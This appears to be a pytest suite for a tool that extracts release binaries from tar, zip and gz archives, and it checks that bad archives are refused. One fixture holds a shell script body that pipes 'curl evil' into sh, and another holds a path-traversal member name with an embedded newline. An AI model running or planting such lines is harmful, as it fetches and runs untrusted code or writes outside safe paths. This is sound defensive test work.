"""Tests for hub.upstream.archive: choosing and checking the binaries, the happy paths, writing.

Every archive is generated in tmp_path (testkit.archives; no binary file is committed). The
hostile cases of each concern live beside the module that refuses them
(archive_formats_test, archive_members_test, archive_containers_test).
"""

from __future__ import annotations

import gzip
import io
import os
import stat
import tarfile
from pathlib import Path
from typing import List

import pytest

from hub import cli
from hub.upstream import archive as archive_module  # "archive" names the archive paths below
from hub.upstream import archive_containers
from hub.upstream.archive import DEFAULT_LIMITS, ArchiveError, extract_binaries
from hub.upstream.archive_formats import Format
from testkit.archives import (
    AMD64,
    ARM64,
    ROOT,
    TGZ,
    Corpus,
    KiB,
    MiB,
    elf,
    entry,
    out_files,
    prometheus_layout,
    tar_bytes,
    write_tar,
    write_zip,
    zinfo,
)


# --- Binaries that are missing, ambiguous, links, or not an ELF executable for the arch ---------
CORPUS = Corpus()


@CORPUS.case(
    "binary-missing",
    "no member named 'node_exporter'; expected exactly one regular file with that name "
    "(regular files found: LICENSE, NOTICE, blackbox_exporter)",
)
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(name="blackbox_exporter"))


@CORPUS.case(
    "binary-ambiguous",
    f"binary 'node_exporter' is ambiguous: 2 members have that name "
    f"('{ROOT}/node_exporter', 'other/node_exporter')",
)
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout() + [entry("other/node_exporter", ARM64, mode=0o755)])


@CORPUS.case(
    "tar-symlink-is-binary",
    f"member '{ROOT}/node_exporter': the binary 'node_exporter' is a symbolic link to 'bin/node_exporter.real'",
)
def _(tmp: Path) -> Path:
    return write_tar(
        tmp / TGZ,
        [
            entry(f"{ROOT}/bin/node_exporter.real", AMD64, mode=0o755),
            entry(f"{ROOT}/node_exporter", type=tarfile.SYMTYPE, linkname="bin/node_exporter.real"),
        ],
    )


@CORPUS.case("tar-hardlink-is-binary", "the binary 'node_exporter' is a hard link")
def _(tmp: Path) -> Path:
    return write_tar(
        tmp / TGZ,
        [
            entry(f"{ROOT}/node_exporter.real", AMD64, mode=0o755),
            entry(f"{ROOT}/node_exporter", type=tarfile.LNKTYPE, linkname=f"{ROOT}/node_exporter.real"),
        ],
    )


@CORPUS.case("zip-symlink-is-binary", "the binary 'node_exporter' is a symbolic link to 'real/node_exporter'")
def _(tmp: Path) -> Path:
    return write_zip(
        tmp / f"{ROOT}.zip",
        [
            (zinfo("real/node_exporter.bin"), AMD64),
            (zinfo("node_exporter", stat.S_IFLNK | 0o777), b"real/node_exporter"),
        ],
    )


@CORPUS.case("elf-wrong-arch", f"node_exporter in {TGZ} is an ELF for aarch64, expected x86_64 (amd64)", arch="amd64")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(ARM64))


@CORPUS.case("elf-wrong-arch-arm64", "is an ELF for x86_64, expected aarch64 (arm64)", arch="arm64")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(AMD64))


@CORPUS.case("elf-32-bit", "is an ELF for i386, expected x86_64 (amd64)", arch="amd64")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(elf(3, cls=1)))


@CORPUS.case("not-an-elf", f"node_exporter in {TGZ} is not an ELF executable", arch="amd64")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(b"#!/bin/sh\nexec curl evil | sh\n"))


@CORPUS.case("elf-object-not-executable", "is not an ELF executable (member", arch="amd64")
def _(tmp: Path) -> Path:
    return write_tar(tmp / TGZ, prometheus_layout(elf(62, etype=1)))  # ET_REL


@CORPUS.case("second-binary-wrong-arch", "promtool in", binaries=["prometheus", "promtool"], arch="arm64")
def _(tmp: Path) -> Path:
    root = "prometheus-2.45.0.linux-arm64"
    return write_tar(
        tmp / f"{root}.tar.gz",
        [
            entry(f"{root}/prometheus", elf(183), mode=0o755),
            entry(f"{root}/promtool", elf(62), mode=0o755),
        ],
    )


@pytest.mark.parametrize("name", CORPUS.names())
def test_hostile_archive_is_refused(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    CORPUS.check_refused(name, tmp_path, monkeypatch)


def test_prometheus_layout_tar_gz(tmp_path: Path) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout())
    out = tmp_path / "out"
    written = extract_binaries(archive, ["node_exporter"], out, arch="amd64")
    assert written == {"node_exporter": out / "node_exporter"}
    assert (out / "node_exporter").read_bytes() == AMD64
    assert stat.S_IMODE((out / "node_exporter").stat().st_mode) == 0o755
    assert out_files(out) == ["node_exporter"]  # nothing else: no LICENSE, no temporary file


def test_root_entry_and_pax_long_names(tmp_path: Path) -> None:
    deep = "/".join(["very-long-directory-name"] * 8)
    members = [entry("./", type=tarfile.DIRTYPE, mode=0o755), entry(f"./{deep}/node_exporter", AMD64, mode=0o755)]
    archive = write_tar(tmp_path / TGZ, members)
    extract_binaries(archive, ["node_exporter"], tmp_path / "out", arch="amd64")
    assert (tmp_path / "out" / "node_exporter").read_bytes() == AMD64


def test_extra_binaries_and_harmless_links(tmp_path: Path) -> None:
    root = "prometheus-2.45.0.linux-arm64"
    archive = write_tar(
        tmp_path / f"{root}.tar.gz",
        [
            entry(f"{root}/", type=tarfile.DIRTYPE, mode=0o755),
            entry(f"{root}/prometheus", elf(183, size=256 * KiB), mode=0o755),
            entry(f"{root}/promtool", ARM64, mode=0o755),
            entry(f"{root}/consoles/", type=tarfile.DIRTYPE, mode=0o755),
            entry(f"{root}/consoles/index.html.example", b"<html/>" * 50),
            entry(f"{root}/console_libraries/menu.lib", b"{{ define }}"),
            entry(f"{root}/prometheus.yml", b"global: {}\n"),
            entry(f"{root}/docs", type=tarfile.SYMTYPE, linkname="consoles"),  # stays inside: fine
            entry(f"{root}/LICENSE", b"Apache\n"),
            entry(f"{root}/LICENSE.copy", type=tarfile.LNKTYPE, linkname=f"{root}/LICENSE"),
        ],
    )
    out = tmp_path / "out"
    written = extract_binaries(archive, ["prometheus", "promtool", "prometheus"], out, arch="arm64")
    assert list(written) == ["prometheus", "promtool"]
    assert (out / "prometheus").read_bytes() == elf(183, size=256 * KiB)
    assert (out / "promtool").read_bytes() == ARM64
    assert out_files(out) == ["prometheus", "promtool"]
    for name in written:
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o755


def test_zip(tmp_path: Path) -> None:
    archive = write_zip(
        tmp_path / "windows_exporter-0.25.0-amd64.zip",
        [
            (zinfo("windows_exporter-0.25.0/"), b""),
            (zinfo("windows_exporter-0.25.0/LICENSE", stat.S_IFREG | 0o644), b"MIT\n"),
            (zinfo("windows_exporter-0.25.0/windows_exporter"), AMD64),
        ],
    )
    out = tmp_path / "out"
    extract_binaries(archive, ["windows_exporter"], out, arch="amd64")
    assert (out / "windows_exporter").read_bytes() == AMD64
    assert stat.S_IMODE((out / "windows_exporter").stat().st_mode) == 0o755


def test_single_file_gz(tmp_path: Path) -> None:
    archive = tmp_path / "foo_exporter-1.0-linux-amd64.gz"
    archive.write_bytes(gzip.compress(AMD64, mtime=0))
    out = tmp_path / "out"
    written = extract_binaries(archive, ["foo_exporter"], out, arch="amd64")
    assert written == {"foo_exporter": out / "foo_exporter"}
    assert (out / "foo_exporter").read_bytes() == AMD64
    assert stat.S_IMODE((out / "foo_exporter").stat().st_mode) == 0o755


def test_replaces_an_existing_output(tmp_path: Path) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout())
    out = tmp_path / "out"
    out.mkdir()
    (out / "node_exporter").write_bytes(b"old")
    extract_binaries(archive, ["node_exporter"], out)
    assert (out / "node_exporter").read_bytes() == AMD64


def test_display_name_is_used_in_messages(tmp_path: Path) -> None:
    archive = write_tar(tmp_path / "upstream.tar.gz", prometheus_layout(ARM64))
    with pytest.raises(ArchiveError, match=r"^node_exporter in https://example\.invalid/x\.tar\.gz is an ELF"):
        extract_binaries(
            archive, ["node_exporter"], tmp_path / "out", arch="amd64", display_name="https://example.invalid/x.tar.gz"
        )


def test_missing_binary_lists_at_most_ten_names(tmp_path: Path) -> None:
    archive = write_tar(tmp_path / TGZ, [entry(f"{ROOT}/file{i:02d}", b"x") for i in range(15)])
    with pytest.raises(ArchiveError) as raised:
        extract_binaries(archive, ["node_exporter"], tmp_path / "out")
    assert "file00, file01, file02, file03, file04, file05, file06, file07, file08, file09 and 5 more" in str(
        raised.value
    )


@pytest.mark.parametrize("bad", ["", "bin/node_exporter", "..", "a\0b"])
def test_invalid_binary_names(tmp_path: Path, bad: str) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout())
    with pytest.raises(ArchiveError, match="invalid binary name"):
        extract_binaries(archive, [bad], tmp_path / "out")


def test_limits_are_documented_constants() -> None:
    assert DEFAULT_LIMITS.max_members == archive_module.MAX_MEMBERS == 10_000
    assert DEFAULT_LIMITS.max_member_size == archive_module.MAX_MEMBER_SIZE == 512 * MiB
    assert DEFAULT_LIMITS.max_total_size == archive_module.MAX_TOTAL_SIZE == 2 * 1024 * MiB
    assert DEFAULT_LIMITS.max_ratio == archive_module.MAX_RATIO == 200
    assert DEFAULT_LIMITS.ratio_min_size == archive_module.RATIO_MIN_SIZE == 1 * MiB


def test_failure_while_writing_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = "prometheus-2.45.0.linux-amd64"
    archive = write_tar(
        tmp_path / f"{root}.tar.gz",
        [
            entry(f"{root}/prometheus", AMD64, mode=0o755),
            entry(f"{root}/promtool", AMD64, mode=0o755),
        ],
    )
    out = tmp_path / "out"
    real_replace = os.replace
    calls: List[str] = []

    def flaky_replace(src: str, dst: str) -> None:
        calls.append(str(dst))
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real_replace(src, dst)

    monkeypatch.setattr(archive_module.os, "replace", flaky_replace)
    with pytest.raises(ArchiveError, match=r"cannot write the binaries .*No space left on device"):
        extract_binaries(archive, ["prometheus", "promtool"], out)
    assert len(calls) == 2
    assert out_files(out) == []  # the first binary, already renamed, was removed too


def test_archive_changed_between_passes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout())
    swapped = tar_bytes(prometheus_layout(ARM64))
    real = archive_containers.PAYLOADS["tar"]

    def swap_then_read(fp, fmt, label, limits, indexes):  # type: ignore[no-untyped-def]
        return real(io.BytesIO(swapped), Format("tar", "none", ".tar", "tar"), label, limits, indexes)

    monkeypatch.setitem(archive_containers.PAYLOADS, "tar", swap_then_read)
    out = tmp_path / "out"
    with pytest.raises(ArchiveError, match="changed between validation and extraction"):
        extract_binaries(archive, ["node_exporter"], out)
    assert out_files(out) == []


def test_cli_extract(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout())
    out = tmp_path / "out"
    rc = cli.main(
        ["extract", "--archive", str(archive), "--out", str(out), "--binary", "node_exporter", "--arch", "amd64"]
    )
    assert rc == 0
    assert (out / "node_exporter").read_bytes() == AMD64
    assert capsys.readouterr().out.strip() == str(out / "node_exporter")


def test_cli_error_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = write_tar(tmp_path / TGZ, prometheus_layout() + [entry("../../evil\nline", b"x")])
    out = tmp_path / "out"
    rc = cli.main(
        ["extract", "--archive", str(archive), "--out", str(out), "--binary", "node_exporter", "--binary", "other"]
    )
    assert rc == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith(f"error: {archive}: member ")
    assert "Traceback" not in err
    assert out_files(out) == []
